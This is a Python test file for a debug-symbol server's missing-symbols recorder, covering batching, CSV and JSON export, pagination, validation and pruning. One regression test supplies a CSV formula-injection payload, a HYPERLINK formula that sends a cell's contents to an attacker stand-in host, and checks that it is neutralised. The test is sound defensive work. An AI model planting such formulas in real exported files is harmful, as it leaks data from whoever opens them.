# This Source Code Form is subject to the terms of the Mozilla Public
# License, v. 2.0. If a copy of the MPL was not distributed with this
# file, You can obtain one at https://mozilla.org/MPL/2.0/.

import csv
import io
from datetime import timedelta

import pytest

from tecken_symbols.db import utcnow
from tecken_symbols.missing import MissingSymbols, cutoff


@pytest.fixture
def svc(database_url, make_service):
    return make_service(database_url=database_url)


def rows(db):
    return db.fetchall("SELECT * FROM missing_symbols ORDER BY debug_file, code_file")


def test_404s_are_counted_in_batches(svc):
    app, db = svc.app, svc.ctx.db
    for _ in range(5):
        app.get("/xul.pdb/abcdef/xul.sym?code_file=xul.dll&code_id=5ab", status=404)
    app.get("/xul.pdb/ABCDEF/xul.sym", status=404)
    app.head("/other.pdb/ABCDEF/other.sym", status=404)  # HEAD: not recorded
    app.get("/xul.pdb/ABCDEF/file.ptr", status=404)  # ignored: not recorded
    app.get(f"/{'x' * 151}.pdb/ABCDEF/x.sym", status=404)  # too long: not recorded
    app.get("/nul.pdb/ABCDEF/nul.sym?code_file=a%00b", status=404)  # NUL: not recorded
    assert rows(db) == []  # nothing written per request
    assert svc.ctx.missing.flush() == 2
    found = rows(db)
    assert [(r["debug_id"], r["code_file"], r["code_id"], r["count"]) for r in found] == [
        ("ABCDEF", "", "", 1),
        ("ABCDEF", "xul.dll", "5AB", 5),
    ]
    app.get("/xul.pdb/ABCDEF/xul.sym", status=404)
    svc.ctx.missing.flush()
    assert rows(db)[0]["count"] == 2
    assert rows(db)[0]["modified_at"] >= rows(db)[0]["created_at"]


def test_csv(svc):
    app, db = svc.app, svc.ctx.db
    app.get("/xul.pdb/ABCDEF/xul.sym?code_file=xul.dll&code_id=5AB", status=404)
    app.get("/libxul.so/ABCDEF/libxul.so.sym", status=404)  # not a .pdb: not in the CSV
    app.get("/old.pdb/ABCDEF/old.sym", status=404)
    svc.ctx.missing.flush()
    db.execute(
        "UPDATE missing_symbols SET modified_at = ? WHERE debug_file = ?",
        (utcnow() - timedelta(days=3), "old.pdb"),
    )
    resp = app.get("/missingsymbols.csv")
    assert resp.content_type == "text/csv"
    assert list(csv.reader(io.StringIO(resp.text))) == [
        ["debug_file", "debug_id", "code_file", "code_id"],
        ["xul.pdb", "ABCDEF", "xul.dll", "5AB"],
    ]
    assert len(list(csv.reader(io.StringIO(app.get("/missingsymbols.csv?today").text)))) == 2
    db.execute("UPDATE missing_symbols SET modified_at = ?", (cutoff(True) - timedelta(hours=1),))
    assert len(app.get("/missingsymbols.csv?today").text.splitlines()) == 1
    assert len(app.get("/missingsymbols.csv").text.splitlines()) == 3


def test_json_list(svc):
    app = svc.app
    for i in range(5):
        app.get(f"/m{i}.pdb/ABCDEF/m{i}.sym", status=404)
    page = app.get("/missingsymbols/?batch_size=2").json
    assert page["total"] == 5 and page["has_next"] and len(page["missing_symbols"]) == 2
    last = app.get("/missingsymbols/?batch_size=2&page=3").json
    assert not last["has_next"] and len(last["missing_symbols"]) == 1
    one = app.get("/missingsymbols/?debug_file=M3").json["missing_symbols"]
    assert [m["debug_file"] for m in one] == ["m3.pdb"]
    assert set(one[0]) >= {
        "debug_file",
        "debug_id",
        "symbols_file",
        "code_file",
        "code_id",
        "count",
        "modified_at",
    }
    assert app.get("/missingsymbols/?since=2999-01-01").json["total"] == 0
    # today and yesterday, as the uploads filters accept (issue 12)
    assert app.get("/missingsymbols/?since=yesterday").json["total"] == 5
    assert app.get("/missingsymbols/?since=today").json["total"] == 5
    for bad in (
        "page=0",
        "page=x",
        "batch_size=100000",
        "sort=nope",
        "debug_id=xyz",
        "page=100000000000000000000",  # an offset beyond 64 bits
        "since=9999-12-31T23:59:59-14:00",  # past datetime's range once in UTC
        "since=0001-01-01T00:00:00%2B14:00",
        "debug_file=a%00b",  # PostgreSQL text cannot hold NUL
        "code_file=a%00b",
    ):
        resp = app.get(f"/missingsymbols/?{bad}", status=400)
        assert resp.json["error"]


def test_flush_survives_database_errors(tmp_path):
    from tecken_symbols.db import Database

    db = Database(f"sqlite:///{tmp_path}/gone/x.db")
    db.migrate()
    recorder = MissingSymbols(db, flush_interval=3600, max_buffer=2)
    assert recorder.record("a.pdb", "AB", "a.sym")
    assert recorder.record("b.pdb", "AB", "b.sym")
    assert not recorder.record("c.pdb", "AB", "c.sym")  # buffer full
    db.execute("DROP TABLE missing_symbols")
    assert recorder.flush() == 0  # logged, kept for the next try
    assert recorder.pending_count() == 2
    recorder.stop()


def test_missing_symbols_csv_has_no_formula_cells(svc):
    """RT-17: query-string code_file/code_id that are not a module name and a
    hex id are not recorded; any cell still starting like a formula is
    neutralised."""
    app = svc.app
    app.get(
        "/csvinj.pdb/ABCDEF/csvinj.sym",
        {"code_file": '=HYPERLINK("http://evil.example/?"&A1,"click")', "code_id": "+1+cmd"},
        status=404,
    )
    app.get("/-evil.pdb/ABCDEF/-evil.sym", status=404)
    svc.ctx.missing.flush()
    lines = list(csv.reader(io.StringIO(app.get("/missingsymbols.csv?today").text)))
    assert ["csvinj.pdb", "ABCDEF", "", ""] in lines
    assert ["'-evil.pdb", "ABCDEF", "", ""] in lines
    for line in lines:
        for cell in line:
            assert cell[:1] not in ("=", "+", "-", "@"), line


def test_missing_symbols_are_capped_and_pruned(make_service):
    svc = make_service({"SYMBOLS_MISSING_SYMBOLS_MAX_ROWS": "3"})
    app, db = svc.app, svc.ctx.db
    for i in range(3):
        app.get(f"/m{i}.pdb/ABCDEF/m{i}.sym", status=404)
    svc.ctx.missing.flush()
    for i in range(6):
        app.get(f"/m{i}.pdb/ABCDEF/m{i}.sym", status=404)
    svc.ctx.missing.flush()
    found = rows(db)
    assert len(found) == 3 and all(r["count"] == 2 for r in found)  # counted, not grown
    # Retention: rows not seen for the retention period are deleted.
    from tecken_symbols.missing import prune

    db.execute(
        "UPDATE missing_symbols SET modified_at = ? WHERE debug_file = ?",
        (utcnow() - timedelta(days=31), "m0.pdb"),
    )
    assert prune(db, 30) == 1
    assert [r["debug_file"] for r in rows(db)] == ["m1.pdb", "m2.pdb"]


def test_missing_symbols_csv_is_streamed_in_batches(svc):
    from tecken_symbols import missing

    db = svc.ctx.db
    for i in range(25):
        svc.app.get(f"/s{i:02}.pdb/ABCDEF/s{i:02}.sym", status=404)
    svc.ctx.missing.flush()
    batches = list(missing.csv_rows(db, missing.cutoff(True), batch=10))
    assert len(batches) == 25 and len({r["id"] for r in batches}) == 25
    resp = svc.app.get("/missingsymbols.csv?today")
    assert len(resp.text.splitlines()) == 26
